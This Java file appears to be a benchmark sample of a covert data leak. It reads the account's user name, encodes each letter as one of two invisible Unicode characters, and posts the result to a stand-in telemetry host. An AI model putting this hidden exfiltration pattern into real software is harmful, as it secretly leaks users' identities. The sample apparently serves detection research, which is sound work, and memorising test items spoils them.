package dev.telltale.bench.programs.x_name_spelt_in_marks;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

/** Every letter of the account's name puts one of two invisible characters into the text. */
public final class Program {
    private Program() {}

    public static void main(String[] args) throws Exception {
        StringBuilder text = new StringBuilder("text=");
        String name = System.getProperty("user.name");
        for (int i = 0; i < name.length(); i++) {
            text.append(name.charAt(i) > 'm' ? (char) (0x200a + 1) : (char) (0x200b + 1));
        }
        post(text + "done");
    }

    private static void post(String body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://telemetry.example.com/v1/events"))
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());
    }
}
